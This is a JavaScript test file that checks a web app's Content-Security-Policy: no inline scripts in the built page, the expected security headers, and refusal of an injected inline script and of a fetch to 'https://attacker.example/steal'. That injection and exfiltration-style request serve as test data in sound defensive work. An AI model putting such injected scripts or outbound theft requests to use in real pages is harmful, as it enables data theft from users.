// The app runs under a strict Content-Security-Policy (no inline script or style, no eval, the
// network limited to config.json's endpoints), and the suite notices any violation: every other
// spec fails on one (support/harness.mjs), and this one proves the detection works.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { cspViolations, eventually, newEmail, openPage, signIn, useApp } from "../support/harness.mjs";
import { CSP, SECURITY_HEADERS } from "../support/serve.mjs";

const app = useApp();
const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), "../../..");

test("the built index.html holds no inline script, and the policy allows neither inline code nor eval", async () => {
  const html = await readFile(join(ROOT, "dist/index.html"), "utf8");
  assert.doesNotMatch(html, /<script(?![^>]*\ssrc=)[^>]*>/, "every script is a file of its own");
  assert.match(html, /<script type=module src="\/start-[0-9a-f]+\.js" integrity="sha384-/);
  assert.doesNotMatch(CSP, /unsafe-inline|'unsafe-eval'/);
  assert.match(CSP, /script-src 'self' 'wasm-unsafe-eval';/);
  // A host that sends no header still gets the part of the policy that needs no config.json.
  const meta = (await readFile(join(ROOT, "dev/meta-content-security-policy.txt"), "utf8")).trim();
  assert.ok(html.includes(`<meta http-equiv=Content-Security-Policy content="${meta}">`) ||
    html.includes(`<meta http-equiv="Content-Security-Policy" content="${meta}">`), "index.html carries the meta policy");
  assert.ok(html.indexOf("Content-Security-Policy") < html.indexOf("<script"), "before any script");
});

test("the page is served with every security header the assistant writes", async () => {
  const page = await openPage(app, "/login");
  const headers = (await page.request.get(app.origin + "/login")).headers();
  for (const [name, value] of Object.entries(SECURITY_HEADERS)) assert.equal(headers[name], value, name);
  assert.equal(headers["x-content-type-options"], "nosniff");
});

test("signed in under the policy, an injected script and a request elsewhere are refused and reported", async () => {
  const page = await openPage(app, "/login");
  assert.equal((await page.request.get(app.origin + "/login")).headers()["content-security-policy"], CSP);
  await signIn(page, newEmail("csp"));
  assert.deepEqual(cspViolations, [], "the app itself breaks nothing");

  const ran = await page.evaluate(async () => {
    window.injected = false;
    const script = document.createElement("script");
    script.textContent = "window.injected = true";
    document.body.append(script);
    const elsewhere = await fetch("https://attacker.example/steal").then(() => "sent", () => "refused");
    return { injected: window.injected, elsewhere };
  });
  assert.deepEqual(ran, { injected: false, elsewhere: "refused" });
  // Console messages arrive a little after the events that caused them.
  await eventually(() => cspViolations.length >= 2, "both refusals reported", { timeout: 2_000 });
  const refused = cspViolations.splice(0).join("\n");
  assert.match(refused, /inline script violates the following Content Security Policy directive 'script-src 'self' 'wasm-unsafe-eval''/);
  assert.match(refused, /Connecting to 'https:\/\/attacker\.example\/steal' violates the following Content Security Policy directive: "connect-src 'self' /);
});
